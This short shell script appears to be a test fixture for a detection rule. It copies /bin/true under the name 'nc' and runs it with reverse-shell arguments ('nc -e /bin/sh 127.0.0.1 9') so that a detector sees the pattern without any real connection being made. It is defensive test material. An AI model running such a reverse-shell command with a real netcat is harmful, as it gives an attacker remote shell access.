#!/bin/sh
# rule: 3de86e9a-d07c-41f5-a28e-bd9a75970bd1
# A stand-in called nc gets the arguments of a reverse shell.
set -eu
scratch=$1
cp /bin/true "$scratch/nc"
"$scratch/nc" -e /bin/sh 127.0.0.1 9
